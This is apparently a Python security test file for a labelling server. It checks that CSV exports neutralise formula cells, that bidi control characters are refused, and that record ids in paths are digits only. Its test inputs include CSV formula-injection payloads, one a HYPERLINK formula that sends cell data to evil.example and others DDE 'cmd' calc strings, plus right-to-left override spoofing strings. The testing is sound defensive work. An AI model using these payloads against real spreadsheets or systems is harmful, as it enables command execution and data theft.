"""test_injection.py - output that cannot be turned into an attack, against
the real server: every CSV gimark hands out (the print file's CSV through the
API and the desk, the desk's lists, reports and audit log) neutralises cells
a spreadsheet would run as formulas (= + - @ TAB CR), with hostile lot
numbers, operator names and report text put in through the ordinary
routes; Unicode bidi overrides, isolates and marks are refused in names and
text (CLI and API), with a message naming the field; and a record id in a
path is digits only: '+1', ' 1', '01', '-0', '0x1' ... answer 404, never a
record.
"""

import csv
import io
import os
import subprocess
import sys
from urllib.parse import quote, urlencode

sys.dont_write_bytecode = True
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))

import gimark_test as g  # noqa: E402
from test_api import PASSWORD, add_user, call  # noqa: E402
from test_pages import Browser  # noqa: E402

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
HOSTILE_LOTS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"ok")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1;2)",
]
uscc_with_checks = g.uscc_with_checks
RLO, LRI, RLM = "\u202e", "\u2066", "\u200f"


def plain_number(s):
    """A decimal number a spreadsheet reads as a number, never as a formula."""
    t = s[1:] if s[:1] in "+-" else s
    whole, _, frac = t.partition(".")
    return whole.isdigit() and whole.isascii() and (frac == "" or (frac.isdigit() and "." in t))


def cells(body):
    """Every cell of a CSV download (bytes or text), parsed as a spreadsheet would."""
    text = body.decode("utf-8") if isinstance(body, bytes) else body
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def check_csv(t, what, body, must_hold=()):
    """No cell of body starts as a formula; each of must_hold is there, guarded."""
    all_cells = cells(body)
    live = [c for c in all_cells if c.startswith(FORMULA_START) and not plain_number(c)]
    t.check(all_cells and not live, "%s: no cell a spreadsheet would run" % what, live[:3])
    for value in must_hold:
        t.check("'" + value in all_cells, "%s: %r kept whole behind a quote" % (what, value[:20]),
                [c for c in all_cells if value[2:12] in c][:2])


def seed(w):
    w.gimark("init")
    w.gimark("demo")
    tokens = {
        "regulator": add_user(w, "reg", "regulator", scope="45"),
        "operator": add_user(w, "coop", "operator", operator="93451003MA815908XM"),
    }
    batches = [w.batch(1, 2, lot=lot)[0] for lot in HOSTILE_LOTS]
    return tokens, batches


def test_print_file_csv(t, s, tokens, batches):
    for bid, lot in zip(batches, HOSTILE_LOTS):
        status, h, _, body = call(s, "GET", "batches/%d/labels?format=csv" % bid,
                                  token=tokens["operator"])
        t.check(status == 200 and h.get("content-type", "").startswith("text/csv"),
                "the API hands out batch %d's CSV" % bid, (status, body[:100]))
        check_csv(t, "API print file of lot %r" % lot[:12], body, [lot])
        rows = list(csv.reader(io.StringIO(body.decode(), newline="")))
        t.check(rows[0] == ["code", "url", "sequence", "lot"] and len(rows) == 3 and
                all(r[1].lower().startswith("https:") and r[2].isdigit() for r in rows[1:]),
                "the CSV still reads as code, url, sequence, lot", rows[:2])


def test_desk_csv(t, s, w, tokens, batches):
    reg = Browser(s)
    reg.sign_in("reg")
    coop = Browser(s)
    coop.sign_in("coop")
    status, _, body, _ = coop.get("/coop/batches/%d/labels?format=csv" % batches[0])
    t.check(status == 200, "the desk hands out the CSV print file", status)
    check_csv(t, "desk print file", body, [HOSTILE_LOTS[0]])

    # a hostile operator name and contact, put in through the API
    name, contact = "=cmd|' /C calc'!A0 合作社", "@SUM(A1:A9)"
    operator = {"uscc": uscc_with_checks("93451002MA00000A"), "name": name, "kind": "cooperative",
                "region_code": "451002", "contact": contact}
    status, _, doc, raw = call(s, "POST", "operators", token=tokens["regulator"], body=operator)
    t.check(status == 201, "an operator named like a formula is recorded", raw[:200])

    # consumer reports whose text starts with a tab or a carriage return (free text keeps
    # them, and a spreadsheet runs what follows)
    code = w.sql("select code from label where batch_id = %d limit 1" % batches[0])
    texts = ["\t=HYPERLINK(\"http://evil.example\")", "\r=1+1 blurred print"]
    for text in texts:
        status, _, _ = s.request("POST", "/v/%s/report" % code, body=urlencode({"text": text}),
                                 headers={"Content-Type": "application/x-www-form-urlencoded"})
        t.check(status == 200, "a report starting %r is stored" % text[:1], status)

    for page, must in (("operators", [name, contact]), ("batches", HOSTILE_LOTS),
                       ("reports", texts), ("audit", []), ("authorisations", []),
                       ("products", [])):
        status, h, body, _ = reg.get("/admin/%s?format=csv" % page)
        t.check(status == 200 and h["Content-Type"].startswith("text/csv"),
                "the desk's %s as CSV" % page, (status, body[:100]))
        check_csv(t, "desk %s CSV" % page, body, must)


def test_bidi_refused(t, s, w, tokens):
    """Invisible direction controls in names and text: refused, naming the field."""
    before = w.sql("select count(*) from operator") + "/" + w.sql("select count(*) from batch")
    env = dict(os.environ, GIMARK_DB=w.db)
    p = subprocess.run([g.GIMARK, "operator", "add", "--uscc",
                        uscc_with_checks("93451002MA00000B"), "--name", "百色" + RLO + "exe.社",
                        "--kind", "cooperative", "--region", "451002"],
                       env=env, capture_output=True, text=True)
    t.check(p.returncode == 1 and "operator name" in p.stderr and "U+202E" in p.stderr,
            "CLI: a right-to-left override in an operator name is refused naming the field",
            (p.returncode, p.stderr))
    p = subprocess.run([g.GIMARK, "batch", "request", "--auth", "1", "--count", "5",
                        "--lot", "LOT" + RLM + "7"], env=env, capture_output=True, text=True)
    t.check(p.returncode == 1 and "lot number" in p.stderr and "U+200F" in p.stderr,
            "CLI: a right-to-left mark in a lot number is refused naming the field",
            (p.returncode, p.stderr))

    status, _, doc, raw = call(s, "POST", "batches", token=tokens["operator"],
                               body={"auth_id": 1, "count": 5, "lot_number": "LOT" + LRI + "1"})
    msg = (doc or {}).get("error", {}).get("message", "")
    t.check(status == 400 and "lot number" in msg and "U+2066" in msg,
            "API: an isolate in a lot number is refused naming the field", raw[:200])
    operator = {"uscc": uscc_with_checks("93451002MA00000C"), "name": "合作社" + RLO + "gpj",
                "kind": "cooperative", "region_code": "451002"}
    status, _, doc, raw = call(s, "POST", "operators", token=tokens["regulator"], body=operator)
    msg = (doc or {}).get("error", {}).get("message", "")
    t.check(status == 400 and "operator name" in msg and "U+202E" in msg,
            "API: an override in an operator name is refused naming the field", raw[:200])
    status, _, doc, raw = call(s, "PATCH", "operators/1", token=tokens["regulator"],
                               body={"contact": "0776" + RLO + "123"})
    msg = (doc or {}).get("error", {}).get("message", "")
    t.check(status == 400 and "contact" in msg, "API: an override in a contact is refused",
            raw[:200])
    after = w.sql("select count(*) from operator") + "/" + w.sql("select count(*) from batch")
    t.check(after == before, "the refusals left no record", (before, after))
    t.check(w.sql("select count(*) from operator where contact like '%' || char(8238) || '%'")
            == "0", "no contact holds the override")


HOSTILE_IDS = ["+1", " 1", "1 ", "-0", "-1", "01", "001", "0x1", "1e0", "1.0", "\uff11",
               "%2B1", "0", "99999999999999999999", "1234567890123456789"]


def test_path_ids(t, s, tokens, batches):
    """Every spelling of an id but its digits: 404 (or 400), never a record."""
    reg = tokens["regulator"]
    for resource in ("products", "operators", "authorisations", "batches"):
        status, _, doc, _ = call(s, "GET", "%s/1" % resource, token=reg)
        t.check(status == 200 and doc.get("id") == 1, "API %s/1 is a record" % resource, status)
        for bad in HOSTILE_IDS:
            path = "%s/%s" % (resource, bad if bad.startswith("%") else quote(bad))
            status, _, doc, raw = call(s, "GET", path, token=reg)
            t.check(status in (400, 404) and b'"id"' not in raw,
                    "API %s answers %s, no record" % (path, status), raw[:120])
    status, _, _, raw = call(s, "GET", "batches/+1/labels?format=csv", token=tokens["operator"])
    t.check(status == 404 and b"http" not in raw, "API batches/+1/labels: 404, no codes", status)
    status, _, _, raw = call(s, "GET", "authorisations?operator=+1", token=reg)
    t.check(status == 400, "API ?operator=+1: 400", (status, raw[:120]))

    desk = Browser(s)
    desk.sign_in("reg")
    status, _, html, _ = desk.get("/admin/operators/1/edit")
    t.check(status == 200 and "93451003MA815908XM" in html, "desk: operator 1's form", status)
    for bad in HOSTILE_IDS:
        path = "/admin/operators/%s/edit" % (bad if bad.startswith("%") else quote(bad))
        status, _, html, _ = desk.get(path)
        t.check(status in (400, 404) and "93451003MA815908XM" not in html,
                "desk %s: %d, no record" % (path, status), status)
    coop = Browser(s)
    coop.sign_in("coop")
    status, _, body, _ = coop.get("/coop/batches/%d/labels?format=csv" % batches[0])
    t.check(status == 200, "operator desk: batch %d's CSV" % batches[0], status)
    for bad in ("0%d" % batches[0], "%%2B%d" % batches[0], "%%20%d" % batches[0]):
        status, _, body, _ = coop.get("/coop/batches/%s/labels?format=csv" % bad)
        t.check(status == 404 and "https://" not in body.lower(),
                "operator desk /coop/batches/%s/labels: 404, no codes" % bad, status)


def main():
    t = g.Tally("injection")
    w = g.Workdir()
    try:
        tokens, batches = seed(w)
        with g.Server(w, "--base-url", "https://gi.example") as s:
            test_print_file_csv(t, s, tokens, batches)
            test_desk_csv(t, s, w, tokens, batches)
            test_bidi_refused(t, s, w, tokens)
            test_path_ids(t, s, tokens, batches)
    finally:
        w.cleanup()
    t.finish()


if __name__ == "__main__":
    main()
